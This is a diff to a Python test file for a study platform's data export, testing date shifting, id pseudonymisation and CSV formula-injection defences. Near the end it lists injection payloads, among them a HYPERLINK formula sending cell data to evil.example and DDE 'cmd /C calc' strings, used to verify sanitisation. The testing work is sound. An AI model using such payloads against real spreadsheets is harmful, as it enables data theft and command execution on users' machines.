@@ -4,12 +4,15 @@ leaks; shifted dates keep intervals within a participant; free text can be dropp
 
 from __future__ import annotations
 
+import csv
 import datetime as dt
 import io
 import json
+import re
 import zipfile
 from dataclasses import dataclass
 from pathlib import Path
+from typing import Any
 
 import frictionless
 import numpy as np
@@ -20,7 +23,7 @@ from fastapi.testclient import TestClient
 from sqlalchemy import select, text
 from sqlalchemy.engine import Engine
 
-from analysis.exports import ExportRefused, ExportResult, export_study, scrub
+from analysis.exports import ID_SPACES, ExportRefused, ExportResult, export_study, scrub
 from analysis.features import conversation_features
 from analysis.panel import panel
 from scheduler.service import save_profile
@@ -30,6 +33,7 @@ from study.models import AuditEntry, Participant, StaffRole
 from surveys import registry
 from surveys import service as survey_service
 from surveys.models import SurveyAssignment
+from tests import builders
 from tests.analysis.builders import StudyBuilder
 from tests.builders import make_staff
 
@@ -297,14 +301,35 @@ def test_scrub_replaces_emails_and_phone_numbers_but_not_dates() -> None:
     assert scrub("on 2026-03-02 at 10:30, 3 times") == "on 2026-03-02 at 10:30, 3 times"
 
 
+def pseudonyms(plain: ExportResult, shifted: ExportResult) -> dict[str, str]:
+    """Whose new name is which: the fixture's two participants are in different arms."""
+    before = read_back(plain, "participants").set_index("arm")["participant_code"]
+    after = read_back(shifted, "participants").set_index("arm")["participant_code"]
+    return {after[arm]: before[arm] for arm in before.index}
+
+
+def aligned(plain: ExportResult, shifted: ExportResult, table: str,
+            names: dict[str, str]) -> tuple[pd.DataFrame, pd.DataFrame]:
+    """A table's rows in both exports in one order (by participant, then each participant's rows
+    in their own order, which both exports keep), the shifted one under the real codes."""
+    def ordered(frame: pd.DataFrame) -> pd.DataFrame:
+        return frame.sort_values("participant_code", kind="stable").reset_index(drop=True)
+    after = read_back(shifted, table)
+    after["participant_code"] = after["participant_code"].map(names)
+    return ordered(read_back(plain, table)), ordered(after)
+
+
 def test_shift_dates_keeps_intervals_within_a_participant(engine: Engine, study: Built, tmp_path: Path) -> None:
     plain = export_study(engine, study.slug, tmp_path / "plain", format="parquet", turns=True, actor=ACTOR)
     shifted = export_study(engine, study.slug, tmp_path / "shifted", format="parquet", turns=True, actor=ACTOR,
                            shift_dates=True, shift_seed=7)
+    names = pseudonyms(plain, shifted)
+    assert sorted(names.values()) == sorted([study.alice, study.bob])
+    assert sorted(names) == ["D0001", "D0002"]  # not their study codes
     tables = ("participants", "consents", "conversations", "turns", "decisions", "followups", "safety_events")
     offsets: dict[str, set[pd.Timedelta]] = {}
     for table in tables:
-        before, after = read_back(plain, table), read_back(shifted, table)
+        before, after = aligned(plain, shifted, table, names)
         spec = next(s for s in plain.tables if s.name == table)
         for column in (c.name for c in spec.columns if c.type == "datetime"):
             moved = (before[column] - after[column]).dropna()
@@ -318,16 +343,126 @@ def test_shift_dates_keeps_intervals_within_a_participant(engine: Engine, study:
     assert offsets[study.alice] != offsets[study.bob]  # seeded: two different draws
 
     def intervals(result: ExportResult) -> tuple[pd.Series, pd.Series]:
-        people = read_back(result, "participants").set_index("participant_code")
-        consents = read_back(result, "consents").set_index("participant_code")
-        conversations = read_back(result, "conversations").set_index("conversation_id")
+        people = read_back(result, "participants").set_index("arm")
+        arms = people.reset_index().set_index("participant_code")["arm"]
+        consents = read_back(result, "consents").assign(arm=lambda f: f["participant_code"].map(arms)).set_index("arm")
+        conversations = read_back(result, "conversations").set_index("arm")
         return (consents["signed_at"] - people["enrolled_at"],
                 conversations["ended_at"] - conversations["started_at"])
     for a, b in zip(intervals(plain), intervals(shifted), strict=True):
-        pd.testing.assert_series_equal(a, b)
+        pd.testing.assert_series_equal(a.sort_index(), b.sort_index())
     # Nothing else moves: the conversation features are the same.
-    pd.testing.assert_series_equal(read_back(plain, "conversations")["duration_seconds"],
-                                   read_back(shifted, "conversations")["duration_seconds"])
+    before, after = aligned(plain, shifted, "conversations", names)
+    pd.testing.assert_series_equal(before["duration_seconds"], after["duration_seconds"])
+
+
+def id_pairs(plain: ExportResult, shifted: ExportResult, names: dict[str, str]) -> dict[str, set[tuple[int, int]]]:
+    """Per id space, every (id, new id) the two exports put side by side, over every table."""
+    pairs: dict[str, set[tuple[int, int]]] = {}
+    for spec in plain.tables:
+        before, after = aligned(plain, shifted, spec.name, names)
+        for column in (c.name for c in spec.columns if c.name in ID_SPACES):
+            both = pd.DataFrame({"id": before[column], "new": after[column]}).dropna()
+            pairs.setdefault(ID_SPACES[column], set()).update(
+                (int(a), int(b)) for a, b in zip(both["id"], both["new"], strict=True))
+        if "anchor_key" in before.columns:
+            anchors = pd.DataFrame({"id": before["anchor_key"], "new": after["anchor_key"]}).dropna()
+            anchors = anchors[anchors["id"].str.startswith("decision:")]
+            pairs["decisions"].update((int(a.split(":")[1]), int(b.split(":")[1]))
+                                      for a, b in zip(anchors["id"], anchors["new"], strict=True))
+    return pairs
+
+
+def test_a_deidentified_export_renames_every_id_the_same_way_in_every_table(
+    engine: Engine, study: Built, tmp_path: Path,
+) -> None:
+    plain = export_study(engine, study.slug, tmp_path / "plain", format="parquet", turns=True, actor=ACTOR)
+    shifted = export_study(engine, study.slug, tmp_path / "shifted", format="parquet", turns=True, actor=ACTOR,
+                           shift_dates=True, shift_seed=7)
+    again = export_study(engine, study.slug, tmp_path / "again", format="parquet", turns=True, actor=ACTOR,
+                         shift_dates=True, shift_seed=8)
+    # Every id column of every table is renamed (a new one must be added to ID_SPACES).
+    ids = {c.name for spec in plain.tables for c in spec.columns if c.name.endswith("_id") and c.type == "integer"}
+    assert ids <= set(ID_SPACES), ids - set(ID_SPACES)
+    pairs = id_pairs(plain, shifted, pseudonyms(plain, shifted))
+    assert set(pairs) == set(ID_SPACES.values())
+    for space, found in pairs.items():
+        old = {a for a, _ in found}
+        new = {b for _, b in found}
+        assert len(old) == len(new) == len(found), space  # one new id per id, the same in every table
+        assert old != new, space
+        assert all(1 <= b < 2 ** 32 for b in new), space
+    # Another export draws other names.
+    other = id_pairs(plain, again, pseudonyms(plain, again))
+    assert all(dict(pairs[space]) != dict(other[space]) for space in pairs)
+
+
+ENROLLED = 30
+
+
+def test_a_deidentified_export_tells_nothing_of_who_enrolled_when(engine: Engine, example_protocol: str,
+                                                                  frozen_clock: clock.FrozenClock,
+                                                                  tmp_path: Path) -> None:
+    """30 participants enroll one after another, each writes "I am number <i>" and decides
+    "decision <i>": in the de-identified export, neither the rows' order nor any id or code goes
+    with <i>, and every table still joins to the right participant."""
+    build = StudyBuilder(engine, example_protocol)
+    for i in range(ENROLLED):
+        frozen_clock.advance(dt.timedelta(hours=1))
+        code = build.participant("wellbeing" if i % 2 else "control")
+        conversation = build.start(code, "coach" if i % 2 else None)
+        build.say(code, conversation, f"I am number {i}", "Noted.")
+        build.end(code, conversation, rating=4, decision=f"decision {i}")
+    result = export_study(engine, build.slug, tmp_path, format="parquet", turns=True, actor=ACTOR,
+                          shift_dates=True, shift_seed=3, chunk_rows=7,
+                          chunk_participants=4)  # 8 buckets of participants, read 7 rows at a time
+    table = {spec.name: read_back(result, spec.name) for spec in result.tables}
+    turns = table["turns"]
+    said = turns[turns["speaker"] == "participant"]
+    number = dict(zip(said["participant_code"], said["content"].str.extract(r"(\d+)$", expand=False).astype(int),
+                      strict=True))
+    assert sorted(number.values()) == list(range(ENROLLED))
+    assert set(table["participants"]["participant_code"]) == set(number)
+
+    def correlation(values: pd.Series, codes: pd.Series) -> float:
+        return float(pd.Series(values.to_numpy()).corr(pd.Series(codes.map(number).to_numpy()), method="spearman"))
+
+    checked = 0
+    for name, frame in table.items():
+        if frame.empty or name == "safety_events":
+            continue
+        codes = frame["participant_code"]
+        # A plain export lists every table in enrollment order (correlation 1); here no order is left.
+        assert abs(correlation(pd.Series(range(len(frame))), codes)) < 0.6, name
+        for column in [c for c in frame.columns if c in ID_SPACES and frame[c].notna().any()]:
+            assert abs(correlation(frame[column], codes)) < 0.6, (name, column)
+            checked += 1
+    assert abs(correlation(table["participants"]["participant_code"].str[1:].astype(int),
+                           table["participants"]["participant_code"])) < 0.6
+    assert checked >= 10
+    # The tables join as before: each decision to its conversation and its participant's message,
+    # each follow-up anchored on a decision to that decision, each score to its response.
+    decisions = table["decisions"].merge(table["conversations"][["conversation_id", "participant_code"]],
+                                         on="conversation_id", suffixes=("", "_of_conversation"))
+    assert len(decisions) == ENROLLED
+    assert (decisions["participant_code"] == decisions["participant_code_of_conversation"]).all()
+    assert (decisions["text"] == "decision " + decisions["participant_code"].map(number).astype(str)).all()
+    assert set(turns["conversation_id"]) == set(table["conversations"]["conversation_id"])
+    followups = table["followups"]
+    anchored = followups[followups["anchor_key"].str.startswith("decision:")]
+    by_decision = table["decisions"].set_index("decision_id")["participant_code"]
+    assert len(anchored) == 2 * ENROLLED  # two regret follow-ups per decision
+    assert (anchored["anchor_key"].str.removeprefix("decision:").astype(int).map(by_decision)
+            == anchored["participant_code"]).all()
+    exits = table["responses_immediate_rating"]
+    by_conversation = table["conversations"].set_index("conversation_id")["participant_code"]
+    assert (exits["context_conversation_id"].map(by_conversation) == exits["participant_code"]).all()
+    responses = pd.concat([table[n][["response_id", "participant_code"]] for n in table if n.startswith("responses_")])
+    scores = table["scores"].merge(responses, on="response_id", suffixes=("", "_of_response"))
+    assert len(scores) == len(table["scores"]) > 0
+    assert (scores["participant_code"] == scores["participant_code_of_response"]).all()
+    panel_decisions = table["panel"].dropna(subset=["decision_id"])
+    assert (panel_decisions["decision_id"].map(by_decision) == panel_decisions["participant_code"]).all()
 
 
 def test_drop_free_text_drops_the_free_text_columns(engine: Engine, study: Built, tmp_path: Path) -> None:
@@ -379,3 +514,81 @@ def test_staff_download_an_export_as_a_zip_and_it_is_audited(engine: Engine, app
     with engine.connect() as connection:
         actors = connection.execute(text("SELECT actor FROM audit_log WHERE action = 'study.export'")).scalars()
         assert list(actors) == ["dl@uni.example"]
+
+
+# Formula injection: what participants write reaches the CSV files as text no spreadsheet runs.
+
+INJECTIONS = ['=HYPERLINK("https://evil.example/?d="&A1,"see")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
+              "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "   =1+1", "\n @SUM(A1)", "'=quoted"]
+
+
+def formula_like(cell: str) -> bool:
+    """What a spreadsheet might read as a formula (written from OWASP's list, not from the library)."""
+    return cell[:1] in ("=", "+", "-", "@", "\t", "\r", "\0") or cell.lstrip()[:1] in ("=", "+", "-", "@")
+
+
+def unzip(response: Any) -> dict[str, bytes]:
+    assert response.status_code == 200, response.text
+    bundle = zipfile.ZipFile(io.BytesIO(response.content))
+    return {name.split("/", 1)[1]: bundle.read(name) for name in bundle.namelist()}
+
+
+def test_text_written_by_participants_never_reaches_a_csv_cell_as_a_formula(
+    engine: Engine, app_client: TestClient, example_protocol: str, tmp_path: Path,
+) -> None:
+    slug = builders.load_study(engine, example_protocol)
+    [invite] = builders.make_invites(engine, slug)
+    who = builders.enroll_fully(app_client, invite)
+    builders.put_in_arm(engine, who.code, "control")  # the standard assistant: no role to choose
+    written: dict[str, list[str]] = {"turns": [], "decisions": [], "responses_goal_progress": []}
+    for n, payload in enumerate(INJECTIONS):
+        conversation = builders.start_chat(app_client, who, None)
+        builders.say(app_client, who, conversation, payload)
+        ended = app_client.post(f"/api/v1/me/conversations/{conversation}/end", headers=who.headers,
+                                json={"rating": 4, "made_decision": True, "decision": payload})
+        assert ended.status_code == 200, ended.text
+        survey = builders.assign_survey(engine, who.code, "goal-progress")
+        answers = {"answers": {"progress": 3, "note": payload}, "submission_id": f"goal-{n:04d}"}
+        submitted = app_client.post(f"/api/v1/me/surveys/{survey}/submit", headers=who.headers, json=answers)
+        assert submitted.status_code == 200, submitted.text
+        written["turns"].append(payload.strip())  # messages and decisions are stored stripped
+        written["decisions"].append(payload.strip())
+        written["responses_goal_progress"].append(payload)  # a survey's note as typed
+    conversation = builders.start_chat(app_client, who, None)
+    builders.say(app_client, who, conversation, "I feel hopeless and awful")  # a negative sentiment: a number below 0
+    token = make_staff(engine, slug, StaffRole.RESEARCHER, "r@uni.example")
+    staff = {"Authorization": f"Bearer {token}"}
+    path = f"/api/v1/staff/studies/{slug}/exports"
+
+    files = unzip(app_client.get(path, params={"format": "csv", "turns": "true"}, headers=staff))
+    package = json.loads(files["datapackage.json"])
+    for resource in package["resources"]:
+        rows = list(csv.DictReader(io.StringIO(files[resource["path"]].decode("utf-8"), newline="")))
+        for field in resource["schema"]["fields"]:
+            cells = [row[field["name"]] for row in rows if row[field["name"]] != ""]
+            if field["type"] in ("integer", "number"):
+                [float(cell) for cell in cells]  # numbers stay numbers
+            else:
+                assert not [c for c in cells if formula_like(c)], (resource["path"], field["name"])
+    for table, column in (("turns", "content"), ("decisions", "text"), ("responses_goal_progress", "note")):
+        rows = list(csv.DictReader(io.StringIO(files[f"{table}.csv"].decode("utf-8"), newline="")))
+        # Undone as the README says (the first apostrophe off), each cell is what was written.
+        cells = [row[column][1:] if row[column].startswith("'") else row[column] for row in rows]
+        assert set(written[table]) <= set(cells), table
+    conversations = list(csv.DictReader(io.StringIO(files["conversations.csv"].decode("utf-8"))))
+    assert min(float(row["first_message_sentiment"]) for row in conversations) < 0
+    assert "Text cells of the CSV files are safe to open in a spreadsheet" in files["README.md"].decode()
+
+    # The other formats keep the text as written.
+    for export_format in ("parquet", "spss", "stata"):
+        result = export_study(engine, slug, tmp_path / export_format, format=export_format, turns=True,
+                              actor=ACTOR)
+        for table, column in (("turns", "content"), ("decisions", "text"), ("responses_goal_progress", "note")):
+            assert set(written[table]) <= set(read_back(result, table)[column].dropna()), (export_format, table)
+
+    # The aggregate export is CSV too: nothing in it starts a formula either.
+    aggregates = unzip(app_client.get(path, params={"format": "aggregates"}, headers=staff))
+    for name, content in aggregates.items():
+        if name.endswith(".csv"):
+            cells = [cell for row in csv.reader(io.StringIO(content.decode("utf-8"))) for cell in row]
+            assert not [c for c in cells if formula_like(c) and not re.fullmatch(r"-?\d+(\.\d+)?", c)], name
